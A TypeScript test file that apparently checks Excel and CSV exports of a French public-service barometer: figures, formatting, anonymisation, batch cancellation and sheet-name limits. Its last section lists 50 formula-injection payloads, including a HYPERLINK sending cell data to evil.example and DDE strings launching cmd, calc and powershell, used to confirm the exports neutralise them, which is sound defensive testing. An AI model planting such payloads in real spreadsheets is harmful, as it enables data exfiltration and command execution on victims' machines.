/**
 * The Excel deliverables written for real and read back with independent readers: SheetJS for the
 * values and number formats, JSZip for the raw parts (formulas, frozen panes, autofilter, print
 * titles, document properties). Every figure is compared with the analytics service's own answer.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import JSZip from 'jszip';
import { buildFixture } from './export-fixture.js';
import type { Fixture } from './export-fixture.js';
import {
  categoryRankings, groupScores, headlineIndicators, peerBenchmark, trends, winners,
} from '../../main/analytics/index.js';
import { failedItems } from '../../main/explorer/failed-items.js';
import { writeBarometerTables } from '../../main/export/barometer-tables.js';
import { buildStructureExportContext, peerRows, structureTrends, structureWorkbookSpec, writeStructureWorkbook } from '../../main/export/structure-workbook.js';
import { readCache } from '../../main/analytics/cache-read.js';
import { exportStructureWorkbooks } from '../../main/export/batch.js';
import { writeWorkbook } from '../../main/export/workbook-kit.js';
import { TRUNCATION_MARKER, writeCsv } from '../../main/export/safe-cells.js';

type Row = unknown[];

function readBook(file: string): XLSX.WorkBook {
  return XLSX.read(fs.readFileSync(file), { cellStyles: true, cellNF: true, cellDates: false });
}

function rowsOf(wb: XLSX.WorkBook, sheet: string): Row[] {
  const ws = wb.Sheets[sheet];
  if (!ws) throw new Error(`no sheet ${sheet}`);
  return XLSX.utils.sheet_to_json<Row>(ws, { header: 1, raw: true, defval: null, blankrows: true });
}

/** The rows of the table whose header row starts with `firstHeader`, up to the first empty row. */
function table(wb: XLSX.WorkBook, sheet: string, firstHeader: string): { header: Row; rows: Row[]; headerIndex: number } {
  const all = rowsOf(wb, sheet);
  const headerIndex = all.findIndex((r) => r[0] === firstHeader);
  if (headerIndex < 0) throw new Error(`no header ${firstHeader} in ${sheet}`);
  const rows: Row[] = [];
  for (let i = headerIndex + 1; i < all.length; i += 1) {
    const r = all[i] as Row;
    if (r.every((c) => c === null || c === '')) break;
    rows.push(r);
  }
  return { header: all[headerIndex] as Row, rows, headerIndex };
}

async function zipParts(file: string): Promise<Map<string, string>> {
  const zip = await JSZip.loadAsync(fs.readFileSync(file));
  const out = new Map<string, string>();
  for (const name of Object.keys(zip.files)) {
    const entry = zip.files[name];
    if (entry && !entry.dir) out.set(name, await entry.async('string'));
  }
  return out;
}

const close = (a: unknown, b: number | null): void => {
  if (b === null) expect(a === null || a === undefined || a === '').toBe(true);
  else expect(a as number).toBeCloseTo(b, 9);
};

// Distinct names, none a substring of another, so a hit is a real leak.
const NAMES = [
  'Alphaville', 'Bétacourt', 'Gammabourg', 'Deltaport', 'Epsilonne', 'Zétamont',
  'Ètaville-sur-Mer', 'Thétaplage', 'Iotaval',
  'Kappafort', 'Lambdacourt', 'Mumont', 'Nuvillers',
  'Société Xi', 'Omicron SA', 'Pi Services', 'Rhô Assurances',
];

describe('Excel deliverables', () => {
  let fx: Fixture;
  let out: string;

  beforeAll(() => {
    fx = buildFixture({ names: NAMES });
    out = path.join(fx.dir, 'out');
  });
  afterAll(() => fx.cleanup());

  describe('barometer tables', () => {
    let file: string;
    let wb: XLSX.WorkBook;
    let sheets: string[];

    beforeAll(async () => {
      const r = await writeBarometerTables(fx.db, { edition: 2023, outFile: path.join(out, 'tables.xlsx') });
      file = r.file;
      sheets = r.sheets;
      wb = readBook(file);
    });

    it('has the sheets of issue 5, in order (golden), and English names with lang en', async () => {
      expect(wb.SheetNames).toEqual(['Synthèse', 'Lauréats', 'Étapes', 'Canaux', 'Déterminants', 'Distribution', 'Tendances', 'Méthode']);
      expect(sheets).toEqual(wb.SheetNames);
      const en = await writeBarometerTables(fx.db, { edition: 2023, lang: 'en', outFile: path.join(out, 'tables-en.xlsx') });
      expect(readBook(en.file).SheetNames).toEqual(['Summary', 'Winners', 'Steps', 'Channels', 'Determinants', 'Distribution', 'Trends', 'Method']);
      expect(table(readBook(en.file), 'Steps', 'Group type').header.slice(0, 4)).toEqual(['Group type', 'Group', 'Step', 'Score (all observations)']);
    });

    it('golden headers', () => {
      expect(table(wb, 'Synthèse', 'Type de groupe').header).toEqual([
        'Type de groupe', 'Groupe', 'Participants', 'Audits', 'Observations', 'Score (ensemble des observations)', 'Moyenne', 'Médiane', 'Minimum', 'Maximum',
      ]);
      expect(table(wb, 'Lauréats', 'Catégorie').header).toEqual([
        'Catégorie', 'Lauréat', 'Code', 'Score du lauréat', 'Participants', 'Score du second', 'Écart (points)', 'Départagé par',
      ]);
      expect(table(wb, 'Étapes', 'Type de groupe').header).toEqual([
        'Type de groupe', 'Groupe', 'Étape', 'Score (ensemble des observations)', 'n (structures notées)', 'Moyenne', 'Médiane', '1er quartile', '3e quartile', 'Minimum', 'Maximum',
      ]);
      expect(table(wb, 'Déterminants', 'Type de groupe').header.slice(0, 4)).toEqual(['Type de groupe', 'Groupe', 'Code', 'Déterminant']);
      expect(table(wb, 'Tendances', 'Périmètre').header).toEqual([
        'Périmètre', 'Niveau', 'Libellé', 'Score 2022', 'Score 2023', 'Évolution 2022→2023 (points)', 'Comparable 2022→2023', 'Motif',
      ]);
      expect(table(wb, 'Distribution', 'Type de groupe').header.slice(0, 11)).toEqual([
        'Type de groupe', 'Groupe', 'n (structures notées)', 'Minimum', '1er quartile', 'Médiane', '3e quartile', 'Maximum', 'Moyenne', 'Écart interquartile', 'Étendue',
      ]);
    });

    it('Synthèse figures equal the analytics service (categories, sectors, edition)', () => {
      const expected = [
        ...groupScores(fx.db, { edition: 2023, kind: 'category', level: 'overall' }),
        ...groupScores(fx.db, { edition: 2023, kind: 'sector', level: 'overall' }),
        ...groupScores(fx.db, { edition: 2023, kind: 'edition', level: 'overall' }),
      ];
      const { rows } = table(wb, 'Synthèse', 'Type de groupe');
      expect(rows).toHaveLength(expected.length);
      expected.forEach((g, i) => {
        const r = rows[i] as Row;
        expect(r[1]).toBe(g.groupLabel);
        expect(r[2]).toBe(g.structures);
        expect(r[3]).toBe(g.audits);
        expect(r[4]).toBe(g.observations);
        close(r[5], g.score);
        close(r[6], g.mean);
        close(r[7], g.median);
        close(r[8], g.min);
        close(r[9], g.max);
      });
    });

    it('headline indicators are the service figures, as 0–1 numbers formatted as percentages', () => {
      const { rows, headerIndex } = table(wb, 'Synthèse', 'Indicateur');
      const head = headlineIndicators(fx.db, { edition: 2023 });
      for (const item of ['MEL-01', 'MEL-02']) {
        const r = rows.find((x) => x[1] === item) as Row;
        const pub = head.find((h) => h.item === item && h.group === 'public');
        const priv = head.find((h) => h.item === item && h.group === 'prive');
        close(r[2], (pub?.rate ?? 0) / 100);
        expect(r[3]).toBe(pub?.audits);
        close(r[4], (priv?.rate ?? 0) / 100);
        expect(r[5]).toBe(priv?.audits);
      }
      const cell = wb.Sheets['Synthèse']?.[XLSX.utils.encode_cell({ r: headerIndex + 1, c: 2 })] as XLSX.CellObject;
      expect(cell.t).toBe('n');
      expect(String(cell.z)).toContain('%');
      expect(cell.v as number).toBeLessThanOrEqual(1);
    });

    it('Lauréats: winners, runner-up scores and the tie-break rule', () => {
      const expected = winners(fx.db, { edition: 2023 });
      const rankings = categoryRankings(fx.db, { edition: 2023 });
      const { rows } = table(wb, 'Lauréats', 'Catégorie');
      expect(rows).toHaveLength(expected.length);
      expected.forEach((w, i) => {
        const r = rows[i] as Row;
        expect(r[1]).toBe(w.name);
        expect(r[2]).toBe(w.structure);
        close(r[3], w.score);
        expect(r[4]).toBe(w.participants);
        close(r[5], rankings.find((k) => k.category === w.category)?.entries[1]?.score ?? null);
      });
      const all = rowsOf(wb, 'Lauréats').flat().join(' ');
      expect(all).toContain('Règle de départage');
      // Only winners are named: a non-winning public structure never appears.
      const winnerNames = new Set(expected.map((w) => w.name));
      for (const name of NAMES.filter((n) => !winnerNames.has(n))) expect(all).not.toContain(name);
    });

    it('Étapes, Canaux, Déterminants equal groupScores at their level', () => {
      for (const [sheet, level, offset] of [['Étapes', 'step', 0], ['Canaux', 'channel', 0], ['Déterminants', 'determinant', 1]] as const) {
        const expected = [
          ...groupScores(fx.db, { edition: 2023, kind: 'category', level }),
          ...groupScores(fx.db, { edition: 2023, kind: 'sector', level }),
          ...groupScores(fx.db, { edition: 2023, kind: 'edition', level }),
        ];
        const { rows } = table(wb, sheet, 'Type de groupe');
        expect(rows).toHaveLength(expected.length);
        expected.forEach((g, i) => {
          const r = rows[i] as Row;
          expect(r[1]).toBe(g.groupLabel);
          expect(r[2 + offset]).toBe(g.label);
          close(r[3 + offset], g.score);
          expect(r[4 + offset]).toBe(g.n);
          close(r[5 + offset], g.mean);
          close(r[6 + offset], g.median);
          close(r[7 + offset], g.q1);
          close(r[8 + offset], g.q3);
          close(r[9 + offset], g.min);
          close(r[10 + offset], g.max);
        });
      }
    });

    it('Distribution: quartiles and spread per group; band counts add up to n', () => {
      const expected = groupScores(fx.db, { edition: 2023, kind: 'category', level: 'overall' });
      const { rows } = table(wb, 'Distribution', 'Type de groupe');
      expected.forEach((g, i) => {
        const r = rows[i] as Row;
        expect(r[2]).toBe(g.n);
        close(r[4], g.q1);
        close(r[5], g.median);
        close(r[6], g.q3);
        close(r[9], g.q3! - g.q1!);
        close(r[10], g.max! - g.min!);
        expect((r.slice(11) as number[]).reduce((a, b) => a + b, 0)).toBe(g.n);
      });
    });

    it('Tendances: edition-wide series with comparability, equal to trends()', () => {
      const t = trends(fx.db, { scope: { kind: 'edition', code: '' }, level: 'channel', editions: [2022, 2023] });
      const { rows } = table(wb, 'Tendances', 'Périmètre');
      for (const s of t.series) {
        const r = rows.find((x) => x[0] === 'Ensemble des structures' && x[1] === 'Canal' && x[2] === s.label) as Row;
        close(r[3], s.points[0]?.score ?? null);
        close(r[4], s.points[1]?.score ?? null);
        close(r[5], s.comparisons[0]?.delta ?? null);
        expect(r[6]).toBe(s.comparisons[0]?.comparable ? 'Oui' : 'Non comparable');
        if (!s.comparisons[0]?.comparable) expect(String(r[7])).toContain('TEL-01');
      }
      // The fixture's 2023 revision reweights TEL-01: the telephone channel is flagged, email is not.
      expect(t.series.find((s) => s.key === 'telephone')?.comparisons[0]?.comparable).toBe(false);
      expect(t.series.find((s) => s.key === 'email')?.comparisons[0]?.comparable).toBe(true);
    });

    it('Méthode: method, counts, active sources with hashes (not undone ones), generation date', () => {
      const text = rowsOf(wb, 'Méthode').flat().filter((c) => c !== null).map(String).join('\n');
      expect(text).toContain('QUARTILE.INC');
      expect(text).toContain('Règle de départage');
      expect(text).toContain('resultats-2023.xlsx');
      expect(text).toContain('ab12cd34ef56ab12cd34ef56ab12cd34ef56ab12cd34ef56ab12cd34ef56abcd');
      expect(text).not.toContain('ancien-fichier-annule.xlsx');
      expect(text).toMatch(/\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}/);
      const audits = fx.db.prepare('SELECT COUNT(*) FROM audit WHERE edition = 2023').pluck().get() as number;
      expect(rowsOf(wb, 'Méthode').find((r) => r[0] === 'Audits')?.[1]).toBe(audits);
    });

    it('is formatted: number formats, frozen header, autofilter, colour scales, print setup, properties', async () => {
      const parts = await zipParts(file);
      const workbookXml = parts.get('xl/workbook.xml') ?? '';
      expect(workbookXml).toContain('_xlnm.Print_Titles');
      const styles = parts.get('xl/styles.xml') ?? '';
      expect(styles).toContain('formatCode="0.0"');
      expect(styles).toContain('formatCode="0.0 %"');
      const sheet1 = parts.get('xl/worksheets/sheet1.xml') ?? '';
      expect(sheet1).toMatch(/<pane [^>]*state="frozen"/);
      expect(sheet1).toMatch(/<autoFilter ref="A\d+:J\d+"/);
      expect(sheet1).toContain('<colorScale>');
      expect(sheet1).toMatch(/<pageSetup [^>]*orientation="landscape"/);
      expect(sheet1).toMatch(/<pageSetup [^>]*fitToHeight="0"/);
      expect(sheet1).toMatch(/<oddFooter>[^<]*Page &amp;P \/ &amp;N/);
      const core = parts.get('docProps/core.xml') ?? '';
      expect(core).toContain('Baromètre Expérience Citoyen 2023');
      expect(core).toContain('<dc:creator>Baromètre Expérience Citoyen</dc:creator>');
      expect(core).toContain('édition 2023');
      // SheetJS sees the score format on a score cell too.
      const { headerIndex } = table(wb, 'Synthèse', 'Type de groupe');
      const score = wb.Sheets['Synthèse']?.[XLSX.utils.encode_cell({ r: headerIndex + 1, c: 5 })] as XLSX.CellObject;
      expect(score.t).toBe('n');
      expect(score.z).toBe('0.0');
    });
  });

  describe('structure workbook', () => {
    it('figures equal peerBenchmark at every level; rank and percentile; private panel', async () => {
      const code = fx.structures[1]!.code; // a city over 50k: 5 other structures
      const r = await writeStructureWorkbook(fx.db, { structure: code, edition: 2023, outFile: path.join(out, 'one.xlsx') });
      expect(r.sheets).toEqual(['Lisez-moi', 'Scores par niveau', 'Critères', 'Évolution', 'Points à améliorer', 'Constats d’audit']);
      const wb = readBook(r.file);
      const peers = peerBenchmark(fx.db, { edition: 2023, structure: code });
      const panel = groupScores(fx.db, { edition: 2023, kind: 'category', code: 'panel-prive' });
      const { rows, header } = table(wb, 'Scores par niveau', 'Niveau');
      expect(header).toEqual(['Niveau', 'Libellé', 'Votre score', 'Rang dans la catégorie', 'Centile', 'Structures de la catégorie (n)', 'Médiane',
        '1er quartile', '3e quartile', 'Meilleur score', 'Écart à la médiane (points)', 'Panel privé : médiane', 'Panel privé : score', 'Remarque']);
      const levels = peers.filter((p) => p.level !== 'item');
      expect(rows).toHaveLength(levels.length);
      levels.forEach((p, i) => {
        const row = rows[i] as Row;
        expect(row[1]).toBe(p.label);
        close(row[2], p.score);
        expect(row[3]).toBe(p.rank);
        close(row[4], p.percentile === null ? null : p.percentile / 100);
        expect(row[5]).toBe(p.n);
        close(row[6], p.median);
        close(row[7], p.q1);
        close(row[8], p.q3);
        close(row[9], p.max);
        const pp = panel.find((g) => g.level === p.level && g.key === p.key);
        close(row[11], pp?.median ?? null);
        close(row[12], pp?.score ?? null);
      });
      const items = table(wb, 'Critères', 'Code').rows;
      const itemPeers = peers.filter((p) => p.level === 'item');
      expect(items.map((x) => x[0])).toEqual(itemPeers.map((p) => p.key));
      itemPeers.forEach((p, i) => close(items[i]?.[3], p.score));
      // Trend: equal to trends() for the structure.
      const t = trends(fx.db, { scope: { kind: 'structure', code }, level: 'overall', editions: [2022, 2023] });
      const trendRow = table(wb, 'Évolution', 'Niveau').rows[0] as Row;
      close(trendRow[2], t.series[0]?.points[0]?.score ?? null);
      close(trendRow[3], t.series[0]?.points[1]?.score ?? null);
      close(trendRow[4], t.series[0]?.comparisons[0]?.delta ?? null);
    });

    it('failed items equal the Fiche structure service for every structure (aggregates path)', async () => {
      const ctx = buildStructureExportContext(fx.db, { edition: 2023 });
      for (const s of fx.structures) {
        const spec = structureWorkbookSpec(fx.db, ctx, { structure: s.code });
        const sheet = spec.sheets.find((x) => x.name === 'Points à améliorer');
        if (sheet?.kind !== 'table') throw new Error('missing sheet');
        const expected = failedItems(fx.db, { code: s.code, edition: 2023, limit: 15 });
        expect(sheet.rows.map((r) => r[0])).toEqual(expected.map((f) => f.item));
        sheet.rows.forEach((r, i) => {
          const f = expected[i]!;
          expect(r[5]).toBe(f.applicable);
          expect(r[6]).toBe(f.failed);
          close(r[7], f.failureRate / 100);
          if (r[8] !== 'Repère non diffusé') close(r[8], f.peersFailureRate === null ? null : f.peersFailureRate / 100);
        });
      }
    });

    it('the batch peer path equals peerBenchmark() for every structure, in both languages', () => {
      for (const lang of ['fr', 'en'] as const) {
        const ctx = buildStructureExportContext(fx.db, { edition: 2023, lang });
        for (const s of fx.structures) {
          const mine = peerRows(ctx, readCache(fx.db, { edition: 2023, structure: s.code }));
          const expected = peerBenchmark(fx.db, { edition: 2023, structure: s.code, lang });
          expect(mine.length).toBeGreaterThan(10);
          expect(mine).toEqual(expected);
        }
      }
    });

    it('the batch trend path equals trends() for every structure and level', () => {
      const ctx = buildStructureExportContext(fx.db, { edition: 2023 });
      for (const s of fx.structures) {
        const mine = structureTrends(fx.db, ctx, s.code);
        for (const r of mine) {
          const expected = trends(fx.db, { scope: { kind: 'structure', code: s.code }, level: r.level, editions: [2022, 2023] });
          expect(r.series.length).toBeGreaterThan(0);
          expect({ ...r, scopeLabel: '' }).toEqual({ ...expected, scopeLabel: '' });
        }
      }
    });

    it('withholds benchmarks built from fewer than 3 other structures, with a note', async () => {
      const small = fx.structures.find((s) => s.category === 'ville-20k-50k')!;
      const r = await writeStructureWorkbook(fx.db, { structure: small.code, edition: 2023, outFile: path.join(out, 'small.xlsx') });
      const wb = readBook(r.file);
      const { rows } = table(wb, 'Scores par niveau', 'Niveau');
      for (const row of rows) {
        expect(row[3] ?? null).toBeNull(); // rank
        expect(row[4] ?? null).toBeNull(); // percentile
        expect(row[6] ?? null).toBeNull(); // median
        expect(row[9] ?? null).toBeNull(); // best
        expect(row[13]).toBe('Repère non diffusé');
      }
      const text = rowsOf(wb, 'Scores par niveau').flat().join(' ');
      expect(text).toContain('moins de 3 autres structures');
      for (const row of table(wb, 'Points à améliorer', 'Code').rows) expect(row[8]).toBe('Repère non diffusé');
    });

    it('masks personal names in comments by default, keeps them with keepNames', async () => {
      const code = fx.structures[0]!.code;
      const masked = readBook((await writeStructureWorkbook(fx.db, { structure: code, edition: 2023, outFile: path.join(out, 'masked.xlsx') })).file);
      const kept = readBook((await writeStructureWorkbook(fx.db, { structure: code, edition: 2023, outFile: path.join(out, 'kept.xlsx'), keepNames: true })).file);
      const textOf = (wb: XLSX.WorkBook): string => rowsOf(wb, 'Constats d’audit').flat().filter((c) => typeof c === 'string').join('\n');
      expect(textOf(masked)).not.toMatch(/Dupont|Le Goff|Martin|Jean-Pierre/);
      expect(textOf(masked)).toMatch(/Mme \*\*\*|M\. \*\*\*|Monsieur \*\*\*/);
      expect(textOf(kept)).toMatch(/Mme Dupont|Jean-Pierre Le Goff|Monsieur Martin/);
    });

    it('names no other participant in any part of the file (cells, sheets, properties, defined names)', async () => {
      const result = await exportStructureWorkbooks(fx.db, { edition: 2023, outDir: path.join(out, 'all') });
      expect(result.count).toBe(fx.structures.length);
      for (const [i, s] of fx.structures.entries()) {
        const file = result.files[i]!;
        expect(path.basename(file).startsWith(`${s.code}-`)).toBe(true);
        const parts = await zipParts(file);
        expect(parts.size).toBeGreaterThan(5);
        expect([...parts.keys()]).toContain('docProps/core.xml');
        let ownHits = 0;
        for (const [part, xml] of parts) {
          if (xml.includes(s.name)) ownHits += 1;
          for (const other of fx.structures) {
            if (other.code === s.code) continue;
            if (xml.includes(other.name) || xml.includes(other.code)) throw new Error(`${path.basename(file)} ${part} names ${other.code} ${other.name}`);
          }
        }
        expect(ownHits).toBeGreaterThan(0); // the scan does see names
      }
    });
  });

  describe('batch', () => {
    it('reports progress and stops between files on cancel, leaving no temporary or partial file', async () => {
      const dir = path.join(out, 'cancel');
      const seen: number[] = [];
      let stop = false;
      const result = await exportStructureWorkbooks(fx.db, { edition: 2023, outDir: dir }, {
        onProgress: (p) => {
          seen.push(p.done);
          expect(p.total).toBe(fx.structures.length);
          if (p.done === 3) stop = true;
        },
        cancel: () => stop,
      });
      expect(result.cancelled).toBe(true);
      expect(result.count).toBe(3);
      expect(seen).toEqual([1, 2, 3]);
      const left = fs.readdirSync(dir);
      expect(left.sort()).toEqual(result.files.map((f) => path.basename(f)).sort());
      for (const f of result.files) expect(readBook(f).SheetNames).toContain('Lisez-moi');
    });

    it('deletes the temporary file when cancelled while a workbook is being written', async () => {
      const dir = path.join(out, 'cancel-mid');
      let polls = 0;
      // First poll (before file 1) says go, second poll (after writing file 1, before its rename) says stop.
      const result = await exportStructureWorkbooks(fx.db, { edition: 2023, outDir: dir }, { cancel: () => (polls += 1) > 1 });
      expect(result).toMatchObject({ cancelled: true, count: 0 });
      expect(fs.readdirSync(dir)).toEqual([]);
    });

    it('opens its own connection from a path (worker thread) and honours an AbortSignal', async () => {
      const controller = new AbortController();
      const result = await exportStructureWorkbooks(fx.file, { edition: 2023, outDir: path.join(out, 'by-path'), codes: [fx.structures[0]!.code, fx.structures[2]!.code] }, {
        cancel: controller.signal,
        onProgress: () => controller.abort(),
      });
      expect(result).toMatchObject({ count: 1, total: 2, cancelled: true });
    });
  });

  describe('kit limits', () => {
    it('splits a table over the row limit into numbered sheets and says so', async () => {
      const file = path.join(out, 'split.xlsx');
      const rows = Array.from({ length: 50 }, (_, i) => [`ligne ${i + 1}`, i + 1]);
      const r = await writeWorkbook(file, {
        title: 'Test', subject: 'Test', lang: 'fr',
        sheets: [{ kind: 'table', name: 'Observations', title: 'Observations', columns: [{ header: 'Nom' }, { header: 'N', kind: 'int' }], rows }],
      }, { maxRowsPerSheet: 20 });
      expect(r.sheets.length).toBeGreaterThan(2);
      expect(r.sheets[0]).toBe('Observations');
      expect(r.sheets[1]).toBe('Observations (2)');
      const wb = readBook(file);
      const all: Row[] = [];
      for (const name of r.sheets) {
        const t = rowsOf(wb, name);
        expect(t.length).toBeLessThanOrEqual(20);
        expect(t.flat().join(' ')).toContain('Table trop longue pour une seule feuille');
        all.push(...table(wb, name, 'Nom').rows);
      }
      expect(all.map((x) => x[1])).toEqual(rows.map((x) => x[1]));
    });

    it('truncates cells over 32,767 characters with a visible marker', async () => {
      const file = path.join(out, 'long.xlsx');
      await writeWorkbook(file, {
        title: 'Test', subject: 'Test', lang: 'fr',
        sheets: [{ kind: 'table', name: 'Long', title: 'Long', columns: [{ header: 'Texte', kind: 'wrap' }], rows: [['é'.repeat(40_000)]] }],
      });
      const cell = table(readBook(file), 'Long', 'Texte').rows[0]?.[0] as string;
      expect(cell.length).toBe(32_767);
      expect(cell.endsWith(TRUNCATION_MARKER)).toBe(true);
    });

    it('sanitises and de-duplicates sheet names', async () => {
      const file = path.join(out, 'names.xlsx');
      const sheet = (name: string) => ({ kind: 'table' as const, name, title: name, columns: [{ header: 'A' }], rows: [['x']] });
      const r = await writeWorkbook(file, {
        title: 'Test', subject: 'Test', lang: 'fr',
        sheets: [sheet('Scores: 2023/2024 [brut]?*'), sheet('Une feuille au nom beaucoup trop long pour Excel'), sheet('Une feuille au nom beaucoup trop long pour Excel')],
      });
      expect(readBook(file).SheetNames).toEqual(r.sheets);
      for (const name of r.sheets) {
        expect(name.length).toBeLessThanOrEqual(31);
        expect(name).not.toMatch(/[:\\/?*[\]]/);
      }
      expect(new Set(r.sheets).size).toBe(3);
    });
  });
});

describe('injection payloads through names and comments', () => {
  const PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")', "=cmd|' /C calc'!A0", "+cmd|' /C notepad'!A0", '-2+3', '@SUM(A1:A2)',
    '\t=1+1', '\r=1+1', '=1+1', '+1', '-1', '@A1', '=DDE("cmd";"/C calc";"A0")', '=IMPORTXML("http://x";"//a")', '=WEBSERVICE("http://x")',
    "=2+5+cmd|' /C calc'!A0", '=SUM(1;2)', "='C:\\Windows\\[x.xls]Sheet1'!A1", '=INDIRECT("A1")', '=1/0', '= 1', '+-1', '-=1', '@=1',
    '=A1&"x"', '=CONCATENATE("a";"b")', '=EXEC("calc")', '=SYSTEM("calc")', '=RAND()', '=NOW()', '=TODAY()', '=ROW()',
    "=cmd|'/c powershell -e JAB'!A0", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A0", "=rundll32|'URL.dll,OpenURL http://x'!A0",
    '+HYPERLINK("http://x")', '-HYPERLINK("http://x")', '@HYPERLINK("http://x")', '\t@SUM(A1)', '\r+1', '=\u0000NUL', '=1\u0007bell',
    '<script>alert(1)</script>', ']]></t><f>1+1</f><t>', '&lt;f&gt;1&lt;/f&gt;', '=+1', '==1', '=-1', '=@A1', '=LAMBDA(x;x)(1)', '\r\n=1',
  ];
  let fx: Fixture;
  let out: string;

  beforeAll(() => {
    expect(PAYLOADS).toHaveLength(50);
    // Structure names carry payloads (every one of them: 50 structures), comments carry them too.
    fx = buildFixture({
      perCategory: { 'ville-plus-50k': 20, 'ville-moins-20k': 20, 'panel-prive': 10 },
      editions: [2023],
      auditsPerStructure: 6,
      names: PAYLOADS,
      comments: PAYLOADS,
      seed: 7,
    });
    out = path.join(fx.dir, 'out');
  });
  afterAll(() => fx.cleanup());

  async function assertNoFormula(file: string): Promise<void> {
    const parts = await zipParts(file);
    for (const [name, xml] of parts) {
      if (name.startsWith('xl/worksheets/')) {
        expect(xml, `${path.basename(file)} ${name}`).not.toMatch(/<f[ >]/);
      }
    }
    const wb = readBook(file);
    for (const name of wb.SheetNames) {
      const ws = wb.Sheets[name] as XLSX.WorkSheet;
      for (const [ref, cell] of Object.entries(ws)) {
        if (ref.startsWith('!')) continue;
        expect((cell as XLSX.CellObject).f, `${name}!${ref}`).toBeUndefined();
      }
    }
  }

  it('no cell of the tables or of any structure workbook is a formula; payload text survives as text', async () => {
    const tables = await writeBarometerTables(fx.db, { edition: 2023, outFile: path.join(out, 'tables.xlsx') });
    await assertNoFormula(tables.file);
    const batch = await exportStructureWorkbooks(fx.db, { edition: 2023, outDir: path.join(out, 'all'), keepNames: true });
    expect(batch.count).toBe(50);
    for (const f of batch.files) await assertNoFormula(f);
    // XML readers normalise line ends (CR LF and CR become LF); illegal controls are removed.
    const shown = (p: string): string => p.replace(/[\u0000-\u0008]/g, '').replace(/\r\n?/g, '\n');
    // The winners' payload names are shown literally as strings.
    const wb = readBook(tables.file);
    const names = table(wb, 'Lauréats', 'Catégorie').rows.map((r) => r[1]);
    expect(names.length).toBeGreaterThan(0);
    for (const n of names) expect(PAYLOADS.map(shown)).toContain(shown(String(n)));
    // Each structure workbook shows its own (payload) name as text in the Lisez-moi sheet.
    for (const [i, s] of fx.structures.entries()) {
      const own = readBook(batch.files[i]!);
      const cells = rowsOf(own, 'Lisez-moi').flat().map((c) => (typeof c === 'string' ? shown(c) : c));
      expect(cells).toContain(shown(s.name));
    }
  });

  it('the CSV guard holds for every payload', () => {
    const file = path.join(fx.dir, 'payloads.csv');
    fs.mkdirSync(fx.dir, { recursive: true });
    writeCsv(file, ['Nom', 'Score'], PAYLOADS.map((p, i) => [p, i - 10]));
    const text = fs.readFileSync(file, 'utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    // Parse the CSV (quotes, doubled quotes, ; separator, CRLF) and check each first field.
    const fields: string[][] = [];
    let row: string[] = [];
    let cur = '';
    let quoted = false;
    const body = text.slice(1);
    for (let i = 0; i < body.length; i += 1) {
      const ch = body[i]!;
      if (quoted) {
        if (ch === '"' && body[i + 1] === '"') { cur += '"'; i += 1; } else if (ch === '"') quoted = false; else cur += ch;
      } else if (ch === '"') quoted = true;
      else if (ch === ';') { row.push(cur); cur = ''; } else if (ch === '\r' && body[i + 1] === '\n') { row.push(cur); fields.push(row); row = []; cur = ''; i += 1; } else cur += ch;
    }
    expect(fields).toHaveLength(PAYLOADS.length + 1);
    PAYLOADS.forEach((p, i) => {
      const [name, score] = fields[i + 1]!;
      const clean = p.replace(/[\u0000-\u0008]/g, '');
      expect(/^[=+\-@\t\r]/.test(name!)).toBe(false);
      expect(name).toBe(/^[=+\-@\t\r]/.test(clean) ? `'${clean}` : clean);
      expect(score).toBe(String(i - 10)); // numbers are numbers: a negative score is not prefixed
    });
  });
});
